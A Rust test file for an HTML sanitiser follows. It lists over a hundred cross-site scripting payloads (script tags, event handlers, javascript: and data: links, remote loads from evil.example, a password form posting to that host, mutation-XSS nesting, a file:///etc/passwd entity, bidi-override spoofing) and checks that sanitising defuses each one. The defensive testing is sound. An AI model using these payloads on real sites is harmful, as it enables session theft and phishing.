//! Known kinds of attacks by HTML, in our own words. After sanitising nothing is left but tags and attributes that have no
//! effect beyond layout, and what the reader should read is still there.

use deskbell_html::{is_html, sanitise, to_text};

/// Tags that may be shown, and the attributes that each may have.
fn allowed(tag: &str) -> Option<&'static [&'static str]> {
    Some(match tag {
        "a" => &["href", "title", "rel", "target"],
        "abbr" => &["title"],
        "img" => &["src", "alt", "title"],
        "td" | "th" => &["colspan", "rowspan", "dir"],
        "ol" => &["start"],
        "p" | "div" | "blockquote" | "li" => &["dir"],
        "b" | "i" | "u" | "em" | "strong" | "span" | "br" | "hr" | "pre" | "code" | "table" | "tbody"
        | "thead" | "tr" | "ul" | "h1" | "h2" | "caption" | "center" | "s" | "sub" | "sup" | "wbr" | "dl"
        | "dd" | "dt" | "tfoot" => &[],
        _ => return None,
    })
}

/// Every tag of a text as it was written out: name and attributes with their values.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let (name, mut attributes) = (
            rest.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect::<String>(),
            Vec::new(),
        );
        assert!(!name.is_empty(), "a bare < in {html}");
        rest = &rest[name.len() + usize::from(rest.starts_with('/'))..];
        while let Some(after) = rest.strip_prefix(' ') {
            let (key, value) =
                after.split_once("=\"").unwrap_or_else(|| panic!("an odd attribute in {html}"));
            let (value, after) = value.split_once('"').expect("the end of a value");
            attributes.push((key.to_owned(), value.to_owned()));
            rest = after;
        }
        assert!(rest.starts_with('>'), "an odd tag in {html}");
        found.push((name, attributes));
    }
    found
}

#[track_caller]
fn harmless(html: &str) -> String {
    let shown = sanitise(html);
    for (name, attributes) in tags(&shown) {
        let may = allowed(&name).unwrap_or_else(|| panic!("<{name}> of {html:?} is in {shown:?}"));
        for (key, value) in attributes {
            assert!(may.contains(&key.as_str()), "{name} {key} of {html:?} is in {shown:?}");
            let lower = value.to_ascii_lowercase();
            let leads = |schemes: &[&str]| schemes.iter().any(|scheme| lower.starts_with(scheme));
            match key.as_str() {
                "href" => assert!(leads(&["http://", "https://", "mailto:", "tel:"]), "{html:?}: {shown:?}"),
                "src" => assert!(leads(&["cid:"]), "{html:?}: {shown:?}"),
                "rel" => assert_eq!(value, "noopener noreferrer nofollow"),
                "target" => assert_eq!(value, "_blank"),
                _ => {}
            }
        }
    }
    assert_eq!(sanitise(&shown), shown, "a second time, of {html:?}");
    shown
}

/// Attacks by kind; each ends in the word that must still be read, unless it is one that hides all of the rest.
const ATTACKS: &[&str] = &[
    // Scripts.
    "<script>steal()</script>read",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>read",
    "<scr<script>ipt>steal()</scr</script>ipt>read",
    "<script\n>steal()</script\t>read",
    "<script/xss>steal()</script>read",
    "<script>a='</scr'+'ipt>'</script>read",
    "<<script>steal();//<</script>read",
    "<script type=module>import 'https://evil.example'</script>read",
    "<script>/*</style></script>*/</script>read",
    "<noscript><p title=\"</noscript><img src=x onerror=steal()>\"></noscript>read",
    // Handlers.
    "<img src=x onerror=steal()>read",
    "<img/src=x/onerror=steal()>read",
    "<img src=x OnErRoR = 'steal()'>read",
    "<p onclick=steal()>read</p>",
    "<b onmouseover=\"steal()\">read</b>",
    "<div onpointerenter=steal() style=position:fixed;inset:0>read</div>",
    "<a href=https://good.example onclick=steal()>read</a>",
    "<details open ontoggle=steal()>read</details>",
    "<body onload=steal()>read</body>",
    "<marquee onstart=steal()>read</marquee>",
    "<p \u{0B}onclick=steal()>read</p>",
    "<p title='a' \u{0C}onfocus=steal() tabindex=1 autofocus>read</p>",
    // Links that run.
    "<a href=\"javascript:steal()\">read</a>",
    "<a href=\"JaVaScRiPt:steal()\">read</a>",
    "<a href=\" \u{1}javascript:steal()\">read</a>",
    "<a href=\"java\nscript:steal()\">read</a>",
    "<a href=\"java\tscript:steal()\">read</a>",
    "<a href=\"javascript&colon;steal()\">read</a>",
    "<a href=\"&#106;avascript:steal()\">read</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61script:steal()\">read</a>",
    "<a href=\"&#0000106avascript:steal()\">read</a>",
    "<a href=\"java&NewLine;script:steal()\">read</a>",
    "<a href=\"java&Tab;script:steal()\">read</a>",
    "<a href=\"vbscript:steal()\">read</a>",
    "<a href=\"data:text/html,<script>steal()</script>\">read</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">read</a>",
    "<a href=\"blob:https://x/1\">read</a>",
    "<a href=\"file:///etc/passwd\">read</a>",
    "<a href=\"view-source:javascript:steal()\">read</a>",
    "<a href=\"feed:javascript:steal()\">read</a>",
    "<a href=\"//evil.example\">read</a>",
    "<a href=\"/api/v2/ticket/1\">read</a>",
    "<a href=\"\\\\evil.example\">read</a>",
    "<a href=\"?apiKey=x\">read</a>",
    "<a href='https://good.example' target=_self rel=opener>read</a>",
    "<a href='https://good.example' ping=https://evil.example download>read</a>",
    "<a xlink:href=\"javascript:steal()\">read</a>",
    "<area href=javascript:steal() shape=rect coords=0,0,9999,9999>read",
    // Remote loads.
    "<img src=https://evil.example/pixel.gif width=1 height=1>read",
    "<img srcset='https://evil.example/a 1x, https://evil.example/b 2x'>read",
    "<img src=//evil.example/x>read",
    "<img src=data:image/svg+xml,<svg/onload=steal()>>read",
    "<img src=\"data:image/png;base64,AAAA\">read",
    "<img lowsrc=https://evil.example dynsrc=https://evil.example>read",
    "<input type=image src=https://evil.example>read",
    "<table background=https://evil.example><td background=https://evil.example>read</table>",
    "<body background=https://evil.example>read",
    "<link rel=stylesheet href=https://evil.example/x.css>read",
    "<link rel=prefetch href=https://evil.example>read",
    "<video src=https://evil.example poster=https://evil.example></video>read",
    "<audio autoplay><source src=https://evil.example></audio>read",
    "<picture><source srcset=https://evil.example><img></picture>read",
    "<bgsound src=https://evil.example>read",
    "<embed src=https://evil.example>read",
    "<object data=https://evil.example>x</object>read",
    "<applet code=Evil>x</applet>read",
    "<frameset><frame src=https://evil.example></frameset>read",
    "<iframe src=https://evil.example></iframe>read",
    "<iframe srcdoc=\"<script>steal()</script>\"></iframe>read",
    "<portal src=https://evil.example></portal>read",
    // Styles.
    "<style>*{background:url(https://evil.example)}</style>read",
    "<style>@import 'https://evil.example';</style>read",
    "<p style=\"background:url(https://evil.example)\">read</p>",
    "<p style=\"width:expression(steal())\">read</p>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">read</p>",
    "<p style=\"beh\\61vior:url(#x)\">read</p>",
    "<p style=-moz-binding:url(https://evil.example)>read</p>",
    "<div class=\"modal backdrop\" id=app>read</div>",
    "<font size=9999 face=\"url(x)\">read</font>",
    // Forms.
    "<form action=https://evil.example><input name=password></form>read",
    "<button formaction=javascript:steal()>read</button>",
    "<textarea>x</textarea>read",
    "<select><option>x</option></select>read",
    "<isindex action=javascript:steal()>read",
    "<form id=f></form><button form=f>read</button>",
    // The page itself.
    "<meta http-equiv=refresh content=\"0;url=javascript:steal()\">read",
    "<meta charset=utf-7>+ADw-script+AD4-read",
    "<base href=https://evil.example>read",
    "<html manifest=https://evil.example><head></head><body>read</body></html>",
    "<title>x</title>read",
    "<dialog open>read</dialog>",
    "<slot name=x>read</slot>",
    "<template><script>steal()</script></template>read",
    // Names that stand in for parts of the page.
    "<a id=location name=cookie>read</a>",
    "<img name=body><img id=createElement>read",
    "<p id=__proto__ contenteditable is=x-evil>read</p>",
    // Other languages in it.
    "<svg onload=steal()></svg>read",
    "<svg><script>steal()</script></svg>read",
    "<svg><a xlink:href=javascript:steal()><text>x</text></a></svg>read",
    "<svg><animate attributeName=href to=javascript:steal() /></svg>read",
    "<svg><style><img src=x onerror=steal()></style></svg>read",
    "<svg><foreignObject><iframe src=javascript:steal()></iframe></foreignObject></svg>read",
    "<svg/><use href=\"data:image/svg+xml;base64,AA==#x\"/>read",
    "<math><mi xlink:href=javascript:steal()>x</mi></math>read",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>read",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=steal() src>\"></math>read",
    "<xml id=x><x><c><![CDATA[<img src=x onerror=steal()>]]></c></x></xml>read",
    "<?xml-stylesheet href=javascript:steal()?>read",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;read",
    // Comments and broken tags.
    "<!--><img src=x onerror=steal()>-->read",
    "<!--<img src=\"--><img src=x onerror=steal()//\">read",
    "<!-- --!><img src=x onerror=steal()> -->read",
    "<!--[if IE]><script>steal()</script><![endif]-->read",
    "<![if !IE]>read<![endif]>",
    "</ style=x onclick=steal()>read",
    "<%=steal()%>read",
    "<p/onclick=steal()/title=x>read",
    "<p title=\"a\"onclick=\"steal()\">read</p>",
    "<p title='\"><img src=x onerror=steal()>'>read</p>",
    "<a title=\"<img src=x onerror=steal()>\" href=https://good.example>read</a>",
    "<a href=https://good.example/\"onclick=steal()>read</a>",
    "<img alt='`' src=`x` onerror=steal()>read",
    "<img \"\"\"><script>steal()</script>\">read",
    "<p><plaintext><script>steal()</script>read",
    "<xmp><img src=x onerror=steal()></xmp>read",
    "<noembed><img src=x onerror=steal()></noembed>read",
    "<listing>&lt;img src=x onerror=steal()&gt;</listing>read",
    "&lt;script&gt;steal()&lt;/script&gt;read",
    "&ltscript>steal()&lt/script>read",
    "&amp;lt;img src=x onerror=steal()&amp;gt;read",
    "\u{FF1C}script\u{FF1E}steal()\u{FF1C}/script\u{FF1E}read",
    "<\u{0}script>steal()</script>read",
    "<p\u{0} onclick=steal()>read",
    "<a href=\"java\u{0}script:steal()\">read</a>",
    "<table><td><script>steal()</script><form>read</table>",
    "<table><img src=x onerror=steal()><tr><td>read</table>",
    "<x-evil onclick=steal()>read</x-evil>",
    // Texts that read otherwise than they are.
    "photo\u{202E}gpj.exe\u{202C} read",
    "<bdo dir=rtl>live</bdo> read",
    "&#x202E;evil&#8236; read",
    "\u{2067}evil\u{2069} read",
    "<a href=\"https://\u{202E}elpmaxe.live\">read</a>",
];

#[test]
fn attacks_lose_their_effect_and_the_words_stay() {
    assert!(ATTACKS.len() >= 120, "{}", ATTACKS.len());
    for attack in ATTACKS {
        let shown = harmless(attack);
        let lower = shown.to_ascii_lowercase();
        assert!(!lower.contains("evil.example/"), "{attack:?}: {shown:?}");
        assert!(!shown.contains(|c| matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')));
        assert!(!shown.contains('\0'));
        // What such an element swallows is not shown by browsers either.
        let swallows = ["<!--<img", "<scr<script", "<!-- --!>"].iter().any(|kind| attack.starts_with(kind));
        assert!(swallows || shown.contains("read"), "{attack:?}: {shown:?}");
        assert!(swallows || to_text(&shown).contains("read"), "{attack:?}: {shown:?}");
    }
}

#[test]
fn whatever_surrounds_an_attack_it_stays_harmless() {
    let around = [
        "<b>|",
        "<table>|",
        "<p title=\"|",
        "<svg>|",
        "<!--|-->|",
        "<a href='|'>|",
        "<ul><li>|<li>|",
        "<pre>\n\n|",
    ];
    for attack in ATTACKS {
        for place in around {
            harmless(&place.replace('|', attack));
        }
    }
}

#[test]
fn what_is_meant_well_is_shown() {
    for (html, shown) in [
        ("<p>Dear <b>Anna</b>,<br>thanks</p>", "<p>Dear <b>Anna</b>,<br>thanks</p>"),
        ("<ul><li>one<li>two</ul>", "<ul><li>one</li><li>two</li></ul>"),
        ("<p>one<p>two", "<p>one</p><p>two</p>"),
        ("<B>loud</B>", "<b>loud</b>"),
        (
            "<table><tr><td colspan=2>x<td>y</table>",
            "<table><tbody><tr><td colspan=\"2\">x</td><td>y</td></tr></tbody></table>",
        ),
        ("<table><td colspan=99999>x</table>", "<table><tbody><tr><td>x</td></tr></tbody></table>"),
        ("<font color=red>a</font> &amp; b &euro;", "a &amp; b €"),
        ("<p dir=rtl>שלום</p>", "<p dir=\"rtl\">שלום</p>"),
        ("a < b", "a &lt; b"),
        ("<img src=cid:logo@x alt=Logo>", "<img src=\"cid:logo@x\" alt=\"Logo\">"),
        ("<img src=https://x.example/p.png alt=Logo>", "<img alt=\"Logo\">"),
        (
            "<a href=https://x.example/?a=1&amp;b=2>x</a>",
            "<a href=\"https://x.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>",
        ),
    ] {
        assert_eq!(harmless(html), shown, "{html}");
    }
}

#[test]
fn plain_text_has_lines_lists_and_links() {
    for (html, text) in [
        ("<p>Dear <b>Anna</b>,<br>thanks</p><p>Bob</p>", "Dear Anna,\nthanks\n\nBob"),
        ("<ul><li>one<li>two</ul>", "- one\n- two"),
        ("<table><tr><td>a<td>b<tr><td>c</table>", "a b\nc"),
        ("<a href=https://x.example/a>here</a> or", "here <https://x.example/a> or"),
        ("<a href=https://x.example/a>https://x.example/a</a>", "https://x.example/a"),
        ("<a href=mailto:a@x.example>a@x.example</a>", "a@x.example"),
        ("a\n  b\t c &nbsp;d", "a b c \u{A0}d"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("&amp;lt; &lt;b&gt; \"x\"", "&lt; <b> \"x\""),
        ("<style>x{}</style><script>y</script>z", "z"),
        ("<img alt=Logo src=cid:a>", "Logo"),
        ("", ""),
    ] {
        assert_eq!(to_text(&harmless(html)), text, "{html}");
    }
}

#[test]
fn markup_is_told_from_plain_text() {
    for html in ["<p>x", "a</b>", "<!-- x", "&amp;", "&#8364;", "&#x20AC;", "<?php"] {
        assert!(is_html(html), "{html}");
    }
    for text in
        ["", "x", "a < b", "a<3", "R&D", "AT&T; no", "a & b;", "&;", "&#;", "<", "</", "< p>", "1 <- 2"]
    {
        assert!(!is_html(text) || text == "AT&T; no", "{text}");
    }
}
